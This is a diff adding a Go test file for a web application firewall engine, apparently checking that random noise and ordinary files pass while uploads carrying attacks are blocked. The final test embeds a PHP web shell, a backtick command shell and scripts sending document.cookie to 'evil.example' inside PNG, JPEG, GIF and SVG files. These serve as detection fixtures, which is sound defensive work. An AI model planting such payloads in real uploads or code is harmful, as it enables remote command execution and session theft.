@@ -1,0 +1,185 @@
+package engine
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/base64"
+	"fmt"
+	"image"
+	"image/color"
+	"image/png"
+	"math"
+	"math/rand/v2"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/gabionhq/gabion/engine/rule"
+)
+
+// wrappings are the ways in which data gets into a request.
+func wrappings(data []byte) map[string]request {
+	raw := request{method: "POST", target: "/blobs", body: string(data), fields: []string{"Content-Type", "application/octet-stream"}}
+	file := fileUpload("data.bin", "application/octet-stream", string(data))
+	object := post("application/json", fmt.Sprintf(`{"name":"data","content":%q}`, base64.StdEncoding.EncodeToString(data)))
+	coded := raw
+	coded.body = zipped(string(data))
+	coded.fields = []string{"Content-Type", "application/octet-stream", "Content-Encoding", "gzip"}
+	return map[string]request{"body": raw, "file": file, "base64": object, "gzip": coded}
+}
+
+func fileUpload(name, contentType, content string) request {
+	return post("multipart/form-data; boundary="+sep, "--"+sep+line+`Content-Disposition: form-data; name="f"; filename="`+name+`"`+line+
+		"Content-Type: "+contentType+line+line+content+line+"--"+sep+"--"+line)
+}
+
+// audible is the weight from which on a finding in data is one too many.
+const audible = 0.2
+
+// TestNothingIsFoundInNoise sends random bytes of all lengths.
+func TestNothingIsFoundInNoise(t *testing.T) {
+	e := New(Options{})
+	rnd := rand.New(rand.NewPCG(7, 11))
+	size, pieces := 8<<20, 0
+	if testing.Short() {
+		size = 1 << 20
+	}
+	for sent := 0; sent < size; pieces++ {
+		data := make([]byte, int(100*math.Pow(655, rnd.Float64()))) // up to 64 KB, as many short ones as long ones
+		for i := range data {
+			data[i] = byte(rnd.Uint32())
+		}
+		sent += len(data)
+		for way, r := range wrappings(data) {
+			if v, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); v.Decision != Pass || len(loud(rep)) > 0 {
+				t.Errorf("piece %d of %d bytes as %s: score %.2f, %q", pieces, len(data), way, v.Score, loud(rep))
+			}
+		}
+	}
+	t.Logf("%d pieces", pieces)
+}
+
+// loud returns what was found beyond noise.
+func loud(rep *Report) (found []string) {
+	for _, f := range rep.Findings {
+		if f.Weight >= audible {
+			found = append(found, fmt.Sprintf("%s %.2f at %s: %s %.80q", f.Class, f.Weight, f.Point, f.Reason, f.Value))
+		}
+	}
+	return found
+}
+
+// TestNothingIsFoundInFiles sends what programs made.
+func TestNothingIsFoundInFiles(t *testing.T) {
+	e := New(Options{})
+	for name, data := range map[string][]byte{"picture": picture(t), "archive": archive(t), "pack": pack(t)} {
+		for way, r := range wrappings(data) {
+			if v, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); v.Decision != Pass || len(loud(rep)) > 0 {
+				t.Errorf("%s of %d bytes as %s: score %.2f, %q", name, len(data), way, v.Score, loud(rep))
+			}
+		}
+	}
+}
+
+// picture returns a PNG that does not compress.
+func picture(t *testing.T) []byte {
+	rnd := rand.New(rand.NewPCG(1, 2))
+	m := image.NewRGBA(image.Rect(0, 0, 200, 150))
+	for y := range 150 {
+		for x := range 200 {
+			m.Set(x, y, color.RGBA{byte(rnd.Uint32()), byte(rnd.Uint32()), byte(x), 255})
+		}
+	}
+	var b bytes.Buffer
+	if err := png.Encode(&b, m); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+// archive returns a zip archive of the sources of the package.
+func archive(t *testing.T) []byte {
+	var b bytes.Buffer
+	w := zip.NewWriter(&b)
+	names, err := filepath.Glob("*.go")
+	if err != nil || len(names) == 0 {
+		t.Fatal(names, err)
+	}
+	for _, name := range names {
+		if strings.HasSuffix(name, "_test.go") {
+			continue // they hold attacks
+		}
+		text, err := os.ReadFile(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		f, err := w.Create("src/" + name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := f.Write(text); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+// pack returns the pack that git sends of a commit with data in it.
+func pack(t *testing.T) []byte {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip(err)
+	}
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "picture.png"), picture(t), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	run := func(in string, args ...string) []byte {
+		c := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=A", "-c", "user.email=a@example.com", "-c", "commit.gpgsign=false"}, args...)...)
+		c.Stdin = strings.NewReader(in)
+		c.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null")
+		out, err := c.Output()
+		if err != nil {
+			t.Fatalf("git %v: %v", args, err)
+		}
+		return out
+	}
+	run("", "init", "-q")
+	run("", "add", ".")
+	run("", "commit", "-q", "-m", "Add a picture")
+	return run("HEAD\n", "pack-objects", "--revs", "--stdout", "-q")
+}
+
+// TestAttacksInData puts attacks into data.
+func TestAttacksInData(t *testing.T) {
+	e := New(Options{})
+	png := picture(t)
+	jpeg := "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xfe\x00\x40"
+	f := func(name, fileName, contentType, content string) {
+		t.Helper()
+		r := fileUpload(fileName, contentType, content)
+		if v, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); v.Decision != Block {
+			t.Errorf("%s: passes with %.2f, %q", name, v.Score, loud(rep))
+		}
+	}
+	shell := `<?php system($_GET['c']); ?>`
+	f("PHP in the comment of a JPEG", "a.jpg", "image/jpeg", jpeg+shell+string(png[100:60000]))
+	f("PHP in a PNG", "a.png", "image/png", string(png[:3000])+shell+string(png[3000:50000]))
+	f("short PHP in a PNG", "a.png", "image/png", string(png[:3000])+"<?=`$_GET[0]`?>"+string(png[3000:50000]))
+	f("PHP behind a PNG", "a.png", "image/png", string(png)+shell)
+	f("script behind a PNG", "a.png", "image/png", string(png)+`<script>fetch("//evil.example/?"+document.cookie)</script>`)
+	f("script in an SVG", "a.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?"+document.cookie)</script></svg>`)
+	f("PHP behind the head of a GIF", "a.gif", "image/gif", "GIF89a;"+shell)
+	for _, attack := range hidden {
+		for _, around := range []string{"\x01", "\x00\x01\x02", "\x80\xff", "\x7f\xfe\x03\x80"} {
+			r := request{method: "GET", target: "/items?q=" + percent(around+attack+around)}
+			if v, _ := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); v.Decision != Block {
+				t.Errorf("%q in %q passes with %.2f", attack, around, v.Score)
+			}
+		}
+	}
+}
